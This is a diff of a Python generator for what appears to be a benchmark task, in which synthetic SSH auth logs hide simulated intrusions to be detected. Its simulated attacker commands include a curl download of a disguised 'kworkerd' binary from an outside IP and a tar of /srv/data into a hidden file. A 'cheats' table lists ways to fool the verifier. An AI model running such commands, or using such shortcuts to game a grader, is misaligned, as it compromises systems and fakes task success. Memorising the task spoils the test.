@@ -2,11 +2,11 @@
 
 from __future__ import annotations
 
-from bisect import bisect_left
+from bisect import bisect_left, bisect_right
 from collections.abc import Sequence
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
-from typing import Any
+from typing import Any, NamedTuple
 
 import numpy as np
 
@@ -28,10 +28,10 @@ COMMANDS = (
     "/usr/bin/tar czf /var/tmp/.x.tgz /srv/data",
     "/usr/bin/curl -o /usr/local/bin/kworkerd http://203.0.113.9/k",
 )
+MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
 
 
-@dataclass(frozen=True)
-class Event:
+class Event(NamedTuple):
     """One line of an auth.log before it is written: `times` counts repetitions of a failure."""
 
     at: datetime
@@ -114,11 +114,16 @@ def _expected(events: Sequence[Event], rule: Rule) -> list[dict[str, Any]]:
         if count < rule.least:
             continue
         end = event.at + timedelta(minutes=rule.follow)
-        mine = [e for e in events if (e.host, e.account) == (event.host, event.account) and event.at <= e.at <= end]
+        near = events[bisect_left(events, event.at, key=_moment) : bisect_right(events, end, key=_moment)]
+        mine = [e for e in near if (e.host, e.account) == (event.host, event.account)]
         ran = [_command(e.kind) for e in mine if e.kind == "ls" or e.kind.startswith("/")]
         row = {"time": event.at.strftime("%Y-%m-%dT%H:%M:%SZ"), "host": event.host, "account": event.account}
         report.append({**row, "address": event.address, "failures": count, "commands": ran})
     return report
+
+
+def _moment(event: Event) -> datetime:
+    return event.at
 
 
 def _command(kind: str) -> str:
@@ -127,7 +132,7 @@ def _command(kind: str) -> str:
 
 def _line(event: Event, offset: int, number: int) -> str:
     local = event.at + timedelta(minutes=offset)
-    stamp = f"{local:%b} {local.day:2d} {local:%H:%M:%S} {event.host}"
+    stamp = f"{MONTHS[local.month - 1]} {local.day:2d} {local.time()} {event.host}"
     process, port = 1000 + number * 7 % 30000, 30000 + number * 13 % 30000
     if event.kind == "fail":
         text = f"Failed password for {event.account} from {event.address} port {port} ssh2"
@@ -196,6 +201,48 @@ def _instruction(rng: np.random.Generator, rule: Rule, offsets: dict[str, int], 
     return text
 
 
+def _story(
+    rng: np.random.Generator, names: Sequence[str], start: datetime, rule: Rule, level: int
+) -> tuple[Event, ...]:
+    """Everything that happened, in order: the daily noise, true intrusions and near misses."""
+    hours = {1: 6, 2: 24, 3: 48, 4: 72, 5: 120}[level]
+    events = _background(rng, names, start, hours, {1: 150, 2: 1500, 3: 4000, 4: 8_000, 5: 18_000}[level])
+    kinds = ["true"] * (level + 1) + ["too few", "by key"] + ["too early"] * (level >= 2) + ["trusted"] * (level >= 4)
+    for number, kind in enumerate(kinds):
+        # the first lies in the rotated part, so that nobody can do without it
+        latest = hours * 1200 if number == 0 else hours * 3600 - 3000
+        moment = start + timedelta(seconds=between(rng, 5000, latest))
+        address = rule.trusted[number % 3] if kind == "trusted" else _address(rng)
+        events += _attack(rng, names, moment, rule, kind, address)
+    # two events in one second would leave the order of commands open
+    unique = {(event.host, event.account, event.at) if event.kind != "noise" else id(event): event for event in events}
+    return tuple(sorted(unique.values(), key=lambda event: (event.at, event.host)))
+
+
+def _cheats(level: int, scripts: dict[str, str], host: str) -> dict[str, tuple[str, ...]]:
+    kinds = (("methods", 1), ("offsets", 2), ("rotation", 2), ("repeats", 1), ("trust", 4))
+    return {f"ignores {kind}": (scripts[kind],) for kind, least in kinds if level >= least} | {
+        "reports nothing": (f"echo '[]' > {REPORT}",),
+        "links to a log": (f"ln -s {LOGS}/{host}/auth.log {REPORT}",),
+    }
+
+
+def _scripts(rule: Rule, offsets: dict[str, int], newest: datetime) -> dict[str, str]:
+    """The oracle under the name "", and what it becomes when it leaves one thing out."""
+    return {
+        skip: ORACLE.format(
+            skip=skip,
+            offsets=offsets,
+            newest=newest.replace(tzinfo=None).isoformat(),
+            least=rule.least,
+            minutes=rule.minutes,
+            follow=rule.follow,
+            trusted=rule.trusted,
+        )
+        for skip in ("", "methods", "offsets", "rotation", "repeats", "trust")
+    }
+
+
 def break_in(rng: np.random.Generator, level: int) -> Task:
     """Auth logs with a few true intrusions among near misses."""
     names = sorted(hosts(rng, {1: 1, 2: 1, 3: 2, 4: 4, 5: 6}[level]))
@@ -205,52 +252,21 @@ def break_in(rng: np.random.Generator, level: int) -> Task:
     start = start_of_story(rng).astimezone(UTC).replace(hour=0)
     if level == 5:  # over the turn of a year, which syslog does not write
         start = start.replace(month=12, day=between(rng, 28, 30))
-    hours = {1: 6, 2: 24, 3: 48, 4: 72, 5: 120}[level]
-    events = _background(rng, names, start, hours, {1: 150, 2: 1500, 3: 4000, 4: 8_000, 5: 18_000}[level])
-    kinds = ["true"] * (level + 1) + ["too few", "by key"] + ["too early"] * (level >= 2) + ["trusted"] * (level >= 4)
-    for number, kind in enumerate(kinds):
-        # the first lies in the rotated part, so that nobody can do without it
-        latest = hours * 1200 if number == 0 else hours * 3600 - 3000
-        moment = start + timedelta(seconds=between(rng, 5000, latest))
-        address = scanners[number % 3] if kind == "trusted" else _address(rng)
-        events += _attack(rng, names, moment, rule, kind, address)
-    # two events in one second would leave the order of commands open
-    unique = {(event.host, event.account, event.at) if event.kind != "noise" else id(event): event for event in events}
-    events = sorted(unique.values(), key=lambda event: (event.at, event.host))
-    expected = _expected(events, rule)
-    parts = {1: 1, 2: 2, 3: 4, 4: 4, 5: 6}[level]
-    files = _files(events, offsets, parts)
-    setup = f"gzip -n {LOGS}/*/auth.log.[2-9]\n" if level >= 3 else ""
+    events = _story(rng, names, start, rule, level)
+    expected, newest = _expected(events, rule), events[-1].at
+    files = _files(events, offsets, {1: 1, 2: 2, 3: 4, 4: 4, 5: 6}[level])
     if level >= 4:
         rows = "".join(f"{host},{offset}\n" for host, offset in offsets.items())
         files["/workspace/hosts.csv"] = f"host,minutes_ahead_of_utc\n{rows}".encode()
         files["/workspace/trusted.txt"] = "".join(f"{address}\n" for address in scanners).encode()
-    newest = events[-1].at
-
-    def script(skip: str) -> str:
-        moment = newest.replace(tzinfo=None).isoformat()
-        return ORACLE.format(
-            skip=skip,
-            offsets=offsets,
-            newest=moment,
-            least=rule.least,
-            minutes=rule.minutes,
-            follow=rule.follow,
-            trusted=scanners,
-        )
-
-    kinds_of_sloth = (("methods", 1), ("offsets", 2), ("rotation", 2), ("repeats", 1), ("trust", 4))
+    scripts = _scripts(rule, offsets, newest)
     return Task(
         instruction=_instruction(rng, rule, offsets, newest, level),
         verifier=EvidenceVerifier((REPORT,), lambda evidence: [json_check(evidence, REPORT, expected)]),
         files=files,
-        setup=setup,
+        setup=f"gzip -n {LOGS}/*/auth.log.[2-9]\n" if level >= 3 else "",
         tools=("python3", "gzip"),
-        oracle=(script(""),),
-        cheats={f"ignores {kind}": (script(kind),) for kind, least in kinds_of_sloth if level >= least}
-        | {
-            "reports nothing": (f"echo '[]' > {REPORT}",),
-            "links to a log": (f"ln -s {LOGS}/{names[0]}/auth.log {REPORT}",),
-        },
+        oracle=(scripts[""],),
+        cheats=_cheats(level, scripts, names[0]),
         limits=Limits(steps={1: 20, 2: 30, 3: 45, 4: 60, 5: 90}[level], seconds=300.0 * level),
     )
